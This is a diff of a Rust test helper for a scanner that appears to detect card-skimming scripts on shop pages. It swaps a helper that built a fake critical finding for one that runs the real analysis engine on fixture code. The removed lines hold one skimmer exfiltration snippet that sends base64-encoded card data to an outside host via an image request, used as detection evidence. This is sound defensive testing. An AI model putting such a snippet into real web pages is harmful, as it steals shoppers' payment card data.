@@ -4,9 +4,11 @@
 //! third-party script, a new destination).
 #![allow(dead_code)]
 
-use skimscan::finding::{Finding, Severity, Verdict};
+use skimscan::finding::{Finding, Verdict};
 use skimscan::inventory::{Party, ScriptKind, ScriptRecord, ScriptText, sha256_hex, sri_sha384};
+use skimscan::js::{AnalysisJob, Engine, HostPolicy};
 use skimscan::report::{PageRecord, Report, Tool};
+use skimscan::rules::RuleSet;
 use std::collections::BTreeMap;
 use std::sync::Arc;
 
@@ -78,6 +80,7 @@ impl Site {
             analysed: true,
             page_line: Some(5),
             destinations: destinations.iter().map(|d| d.to_string()).collect(),
+            behaviour: None,
         });
         self.sources.insert(
             url.into(),
@@ -111,6 +114,7 @@ impl Site {
             analysed: true,
             page_line: Some(10 + *n),
             destinations: vec![],
+            behaviour: None,
         });
         self.sources.insert(
             id.clone(),
@@ -124,20 +128,39 @@ impl Site {
         self
     }
 
-    /// What the engine would report for an exfiltration flow in a script.
-    pub fn critical(mut self, page: &str, script: &str, host: &str) -> Site {
-        self.findings.push(Finding {
-            rule: "exfil-payment-data".into(),
-            severity: Severity::Critical,
-            title: "Payment card fields sent to an outside host".into(),
-            page: Some(page.into()),
-            script: Some(script.into()),
-            location: Some(skimscan::finding::Location { line: 3, column: 1 }),
-            hosts: vec![host.into()],
-            evidence: Some(format!("new Image().src='https://{host}/c?d='+btoa(v)")),
-            message: format!("card number sent to {host}"),
-            diff: None,
-        });
+    /// What the real engine (shipped rules) finds in one of the site's scripts on `page`: the
+    /// verdict of a scenario comes from a real analysis of its fixture code, never from a
+    /// finding a test makes up.
+    pub fn analysed(mut self, page: &str, script: &str) -> Site {
+        let text = self
+            .sources
+            .get(script)
+            .unwrap_or_else(|| panic!("{script} has no text"));
+        let engine = Engine::new(
+            Arc::new(RuleSet::load(false, &[]).expect("shipped rules")),
+            HostPolicy::default(),
+        );
+        let kind = self
+            .scripts
+            .iter()
+            .find(|s| s.id == script)
+            .map_or(ScriptKind::External, |s| s.kind);
+        let job = AnalysisJob {
+            script_id: script.into(),
+            kind,
+            code: text.text.clone(),
+            page_url: page.into(),
+            page_host: Some("shop.example".into()),
+            payment_page: self.pages.iter().any(|p| p.url == page && p.payment_form),
+            line_offset: text.line_offset,
+            column_offset: text.column_offset,
+        };
+        let r = engine
+            .analyse_batch(vec![job])
+            .pop()
+            .expect("one result per job");
+        assert!(r.errors.is_empty(), "{script}: {:?}", r.errors);
+        self.findings.extend(r.findings);
         self
     }
 
